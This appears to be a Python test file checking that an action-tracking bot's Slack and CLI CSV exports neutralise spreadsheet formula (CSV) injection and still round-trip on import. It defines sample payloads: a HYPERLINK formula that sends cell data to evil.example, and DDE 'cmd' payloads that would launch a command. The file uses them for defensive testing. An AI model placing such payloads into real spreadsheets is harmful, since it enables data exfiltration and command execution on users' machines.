"""Exports that would run as formulas (issue 14, class 8): a cell a spreadsheet would execute is written
with a `'` in front (OWASP's advice on CSV injection), through `/action export` and `actionbot export`,
and importing an export still gives the same actions back."""

from __future__ import annotations

import csv
import io

from tests.cli.test_cli import actionbot, cli_env, exported_rows
from tests.conftest import TEAM
from tests.helpers import all_text

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B3,"Click")'
MEETING = "-2+3+cmd|' /C calc'!A0"
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
RUNS = tuple("=+-@\t\r＝＋－＠")  # what a cell must not begin with (OWASP, and the full-width forms)


def unsafe_cells(rows: list[dict]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell.startswith(RUNS)]


def test_slack_export_guards_cells_a_spreadsheet_would_run(driver, slack, app):
    # as Slack sends them: `&` escaped in the command text
    driver.command("UTIM", f'add {HYPERLINK.replace("&", "&amp;")} meeting:"{MEETING}"')
    assert "Noted on #1" in all_text(driver.command("UTIM", f"note 1 {NOTE}").json())
    driver.command("UTIM", "add ＋1+1 in full width group:-KM")
    driver.command("UTIM", "add '=quoted already")
    driver.command("UTIM", "add Plain title")
    assert "Sending you a CSV of *4* actions" in all_text(driver.command("UTIM", "export all").json())

    (upload,) = slack.wait_for("files.upload")
    rows = list(csv.DictReader(io.StringIO(upload.params["content"].decode("utf-8"))))
    by_number = {row["number"]: row for row in rows}
    assert by_number["1"]["title"] == "'" + HYPERLINK
    assert by_number["1"]["meeting"] == "'" + MEETING
    assert by_number["1"]["notes"] == "'" + NOTE
    assert (by_number["2"]["title"], by_number["2"]["group"]) == ("'＋1+1 in full width", "'-KM")
    assert by_number["3"]["title"] == "''=quoted already"  # one quote more: the importer takes one off
    assert by_number["4"]["title"] == "Plain title"
    assert unsafe_cells(rows) == []


def test_cli_export_guards_and_importing_it_gives_the_same_actions_back(db_url, tmp_path):
    env = cli_env(tmp_path, DATABASE_URL=db_url)
    for team in (TEAM, "T0COPY"):  # two workspaces, added on purpose
        assert actionbot("workspace", "add", team, cwd=tmp_path, env=env).returncode == 0
        assert actionbot("region", "add", "Global", "--workspace", team, cwd=tmp_path, env=env).returncode == 0
    titles = [HYPERLINK, MEETING, NOTE, "+1 call with Tim", "＝1+1", "'=quoted once", "Plain title"]
    source = io.StringIO(newline="")
    writer = csv.writer(source)
    writer.writerow(["title", "owner", "due", "region", "group", "status"])
    writer.writerow([titles[0], "=Evil team; Lina Salazar", "2014-12-30", "Global", "-KM", ""])
    writer.writerow([titles[1], "", "ongoing", "", "@ops", "done"])
    for title in titles[2:5]:
        writer.writerow([title, "KM Coordinator", "", "", "", ""])
    writer.writerow(["'" + titles[5], "", "", "", "", ""])  # a source cell written as an export writes it
    writer.writerow([titles[6], "", "", "", "", ""])
    (tmp_path / "source.csv").write_text(source.getvalue(), encoding="utf-8")
    done = actionbot("import", str(tmp_path / "source.csv"), "--workspace", TEAM, cwd=tmp_path, env=env)
    assert done.returncode == 0, done.stderr

    exported = tmp_path / "export.csv"
    assert actionbot("export", "all", "--workspace", TEAM, "-o", str(exported), cwd=tmp_path, env=env).returncode == 0
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    assert unsafe_cells(rows) == []
    assert {r["title"] for r in rows} == {"'" + t if t != "Plain title" else t for t in titles[:5]} | {
        "''=quoted once",
        "Plain title",
    }
    assert {r["owners"] for r in rows if r["title"] == "'" + HYPERLINK} == {"'=Evil team; Lina Salazar"}

    back = actionbot("import", str(exported), "--workspace", "T0COPY", cwd=tmp_path, env=env)
    assert back.returncode == 0, back.stderr

    def snapshot(team):
        return exported_rows(team, cwd=tmp_path, env=env)

    assert snapshot("T0COPY") == snapshot(TEAM)
    listed = actionbot("list", "all", "--workspace", "T0COPY", cwd=tmp_path, env=env).stdout
    for title in ("=HYPERLINK(", "-2+3+cmd|", "@SUM(1+1)", "+1 call with Tim", "＝1+1", "'=quoted once"):
        assert title in listed  # stored as written, without the guard
